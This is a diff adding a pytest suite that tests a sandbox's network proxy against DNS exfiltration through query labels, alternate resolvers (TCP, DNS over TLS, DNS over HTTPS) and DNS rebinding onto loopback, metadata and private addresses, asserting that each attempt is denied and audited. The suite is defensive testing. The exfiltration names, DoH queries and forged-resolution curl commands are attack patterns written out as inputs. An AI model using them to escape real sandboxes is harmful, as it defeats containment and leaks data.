@@ -1,0 +1,111 @@
+"""DNS as a way out: exfiltration through names and record types, other resolvers (TCP, DoT,
+DoH), and rebinding an allowed name onto loopback, metadata, RFC1918 or another sandbox."""
+
+from __future__ import annotations
+
+import secrets
+
+import pytest
+
+from tests.adversarial.conftest import (
+    BOUND_HOST,
+    EXFIL_ZONE,
+    METADATA_ADDR,
+    PRIVATE_ADDR,
+    REBIND_ZONE,
+    Attacker,
+    Canaries,
+)
+from tests.support.internet import DNS_ADDR, ORIGIN_V4
+
+pytestmark = pytest.mark.root
+
+NXDOMAIN, REFUSED = 3, 5
+
+
+def exfil_names() -> list[str]:
+    data = secrets.token_hex(31)  # 62 hex chars: "data" an agent would smuggle out
+    return [
+        f"{data[:20]}.{EXFIL_ZONE}",
+        f"{data}.{data[:40]}.{EXFIL_ZONE}",  # long labels
+        ".".join([data[: 63 - 2]] * 3) + f".{EXFIL_ZONE}",  # a name near the 253-byte limit
+        f"{data[:16]}.{BOUND_HOST}.{EXFIL_ZONE}",  # an allowed name as a prefix is not the name
+    ]
+
+
+def test_dns_exfiltration_never_leaves_the_proxy(attacker: Attacker) -> None:
+    attacker.internet.clear_dns_queries()
+    names = exfil_names()
+    queries = [
+        [name, qtype] for name in names for qtype in ("A", "AAAA", "TXT", "NULL", "ANY", "MX", "HTTPS")
+    ]
+    results = attacker.attack("dns_many", queries=queries)["results"]
+    for result in results:
+        assert result["answered"] and result["rcode"] == NXDOMAIN and result["answers"] == 0, result
+    # Sent straight at the test internet's resolver: nft turns every port-53 datagram to the proxy.
+    direct = attacker.attack("dns", name=names[0], qtype="TXT", server=DNS_ADDR)
+    assert direct["rcode"] == NXDOMAIN
+    upstream = attacker.internet.dns_queries()
+    assert not [q for q in upstream if EXFIL_ZONE in q["name"]], upstream
+    records = attacker.wait_audit(
+        lambda r: r["kind"] == "dns" and r["host"] == names[0] and "TXT" in r["detail"]
+    )
+    assert records and all(r["decision"] == "deny" and r["reason"] == "default" for r in records)
+
+
+def test_other_resolvers_are_unreachable(attacker: Attacker, canaries: Canaries) -> None:
+    name = f"{secrets.token_hex(8)}.{EXFIL_ZONE}"
+    attacker.internet.clear_dns_queries()
+    mark = len(attacker.internet.origin_requests())
+    tcp = attacker.attack("dns", name=name, qtype="TXT", server=DNS_ADDR, tcp=True)
+    assert not tcp["answered"] or tcp["rcode"] in (NXDOMAIN, REFUSED), tcp
+    for server in (DNS_ADDR, PRIVATE_ADDR):  # DNS over TLS: port 853 is just TCP to an IP literal
+        dot = attacker.attack("raw", host=server, port=853, sni="dns.example.test", verify=False)
+        assert not dot.get("reply"), dot
+    doh = attacker.curl(f"'https://dns.example.test/dns-query?name={name}&type=TXT'")
+    assert doh.exit_code != 0  # a DoH endpoint is a host like any other: not allowed, not resolved
+    doh_by_address = attacker.curl("-k", f"'https://{DNS_ADDR}/dns-query?name={name}'")
+    assert doh_by_address.exit_code != 0
+    assert not [q for q in attacker.internet.dns_queries() if EXFIL_ZONE in q["name"]]
+    assert attacker.origin_requests_since(mark) == []
+    assert not [hit for hit in canaries.hits() if hit["local"].endswith(":853")]
+    dot_records = attacker.wait_audit(lambda r: r["port"] == 853 and r["sni"] == "dns.example.test")
+    assert dot_records and all(r["decision"] == "deny" and r["reason"] == "default" for r in dot_records)
+
+
+@pytest.mark.parametrize(
+    ("label", "address"),
+    [
+        ("loop", "127.0.0.1"),
+        ("meta", METADATA_ADDR),
+        ("private", PRIVATE_ADDR),
+        ("mapped", "::ffff:a9fe:a9fe"),
+    ],
+)
+def test_rebinding_an_allowed_name_to_internal_addresses(
+    attacker: Attacker, canaries: Canaries, label: str, address: str
+) -> None:
+    name = f"{label}.{REBIND_ZONE}"
+    assert attacker.attack("resolve", name=name)["addresses"] == []  # the answer is dropped, not handed over
+    for scheme in ("http", "https"):
+        result = attacker.curl("-k", "-o /dev/null", "-w '%{http_code}'", f"{scheme}://{name}/")
+        assert result.stdout in ("000", "403"), (scheme, result)
+        # Forged resolution (curl --resolve): the sandbox dials the internal address itself.
+        port = 443 if scheme == "https" else 80
+        forged = attacker.curl("-k", "-o /dev/null", "-w '%{http_code}'", f"--resolve {name}:{port}:{ORIGIN_V4}",
+                               f"{scheme}://{name}/")  # fmt: skip
+        assert forged.stdout in ("000", "403", "502"), (scheme, forged)
+    assert canaries.hits() == []
+    records = attacker.wait_audit(lambda r: r["host"] == name and r["kind"] in ("request", "connection"))
+    assert records and all(r["decision"] == "deny" for r in records), records
+    assert {r["reason"] for r in records} == {"always_denied_range"}, records
+
+
+def test_rebinding_keeps_only_the_public_answers(attacker: Attacker, canaries: Canaries) -> None:
+    """A name answering metadata AND a public address: the sandbox and the proxy keep the public one."""
+    name = f"mixed.{REBIND_ZONE}"
+    assert attacker.attack("resolve", name=name)["addresses"] == [ORIGIN_V4]
+    mark = len(attacker.internet.origin_requests())
+    assert attacker.curl(f"http://{name}/").stdout.strip() == "hello from origin"
+    assert [r["server"] for r in attacker.origin_requests_since(mark)] == [f"{ORIGIN_V4}:80"]
+    assert canaries.hits() == []
